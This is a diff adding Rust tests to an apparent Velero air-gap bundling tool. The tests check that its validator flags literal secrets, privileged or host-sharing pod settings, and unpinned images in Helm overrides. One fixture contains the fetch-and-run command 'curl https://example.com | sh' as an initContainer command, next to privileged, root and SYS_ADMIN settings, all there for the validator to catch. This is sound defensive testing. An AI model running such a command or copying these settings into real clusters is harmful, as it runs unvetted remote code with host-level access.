@@ -388,3 +388,108 @@ fn unknown_velero_version_lists_known_ones() {
         "{stderr}"
     );
 }
+
+const VALUES_PATH: &str = "spec.unsupportedOverrides.builtInExtensions[0].values";
+
+fn at(inner: &str) -> String {
+    format!("{VALUES_PATH} ({inner})")
+}
+
+#[test]
+fn literal_secrets_in_environment_lists_warn() {
+    let values = "extraEnvVars:\n- name: PGPASSWORD\n  value: hunter2\n- name: PGHOST\n  value: db\n- name: API_TOKEN\n  valueFrom:\n    secretKeyRef: {name: api, key: token}\nextraContainers:\n- name: side\n  env:\n  - {name: S3_SECRET, value: abc}\n";
+    let o = validate(&config(&good_plugin("pg"), &overrides(values)), &[]);
+    let f = assert_warning(
+        &o,
+        "environment variable PGPASSWORD holds a literal value",
+        &at("extraEnvVars[0].value"),
+    );
+    assert_eq!(f["line"], 15);
+    assert_warning(
+        &o,
+        "environment variable S3_SECRET holds a literal value",
+        &at("extraContainers[0].env[0].value"),
+    );
+    assert_eq!(o.findings.len(), 2, "{:#?}", o.findings);
+    assert_eq!(o.code, 0);
+}
+
+#[test]
+fn build_refuses_literal_secrets_in_environment_lists() {
+    let dir = tempfile::tempdir().unwrap();
+    let values = "initContainers:\n- name: x\n  image: registry.example.com/x/y:1\n  env:\n  - {name: MONGO_PASSWORD, value: hunter2}\n";
+    let path = write_config(&dir, &config(&good_plugin("pg"), &overrides(values)));
+    // The check runs before any registry is contacted: the mirror points nowhere.
+    let out = Command::cargo_bin("velero-airgap")
+        .unwrap()
+        .args(["build", "--insecure-registry", "127.0.0.1:9", "-c"])
+        .arg(&path)
+        .arg("-o")
+        .arg(dir.path().join("bundle.tar"))
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(
+        stderr.contains(&format!(
+            "{} carries a literal secret",
+            at("initContainers[0].env[0].value")
+        )),
+        "{stderr}"
+    );
+    assert!(!stderr.contains("hunter2"), "{stderr}");
+}
+
+#[test]
+fn privilege_in_overrides_warns_naming_the_field() {
+    let values = "hostNetwork: true\nnodeAgent:\n  hostPID: true\n  hostIPC: true\nextraContainers:\n- name: side\n  image: registry.example.com/x/side:1@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n  securityContext:\n    privileged: true\n    runAsUser: 0\n    capabilities:\n      add: [SYS_ADMIN]\nextraVolumes:\n- name: host\n  hostPath: {path: /var/run}\ninitContainers:\n- name: setup\n  image: registry.example.com/x/setup:1@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n  command: [sh, -c, 'curl https://example.com | sh']\n";
+    let o = validate(&config(&good_plugin("pg"), &overrides(values)), &[]);
+    for (needle, inner) in [
+        ("hostNetwork: true shares the node's network", "hostNetwork"),
+        ("hostPID: true shares", "nodeAgent.hostPID"),
+        ("hostIPC: true shares", "nodeAgent.hostIPC"),
+        (
+            "privileged: true gives",
+            "extraContainers[0].securityContext.privileged",
+        ),
+        (
+            "runAsUser: 0 runs the container as root",
+            "extraContainers[0].securityContext.runAsUser",
+        ),
+        (
+            "capabilities.add grants SYS_ADMIN",
+            "extraContainers[0].securityContext.capabilities.add",
+        ),
+        ("hostPath volume (/var/run)", "extraVolumes[0].hostPath"),
+        (
+            "initContainer setup sets command:",
+            "initContainers[0].command",
+        ),
+    ] {
+        assert_warning(&o, needle, &at(inner));
+    }
+    assert_eq!(o.code, 0);
+    assert_eq!(
+        validate(
+            &config(&good_plugin("pg"), &overrides(values)),
+            &["--strict"]
+        )
+        .code,
+        1
+    );
+}
+
+#[test]
+fn unpinned_kubectl_image_in_overrides_warns() {
+    let values = "upgradeCRDs: true\nkubectl:\n  image:\n    repository: registry.example.com/bitnami/kubectl\n    tag: latest\n";
+    let o = validate(&config(&good_plugin("pg"), &overrides(values)), &[]);
+    let f = assert_warning(&o, "is not pinned by digest", &at("kubectl.image"));
+    assert_eq!(f["line"], 15);
+    assert_warning(&o, "uses the tag latest", &at("kubectl.image"));
+    assert_eq!(o.code, 0);
+    let strict = validate(
+        &config(&good_plugin("pg"), &overrides(values)),
+        &["--strict"],
+    );
+    assert_eq!(strict.code, 1);
+}
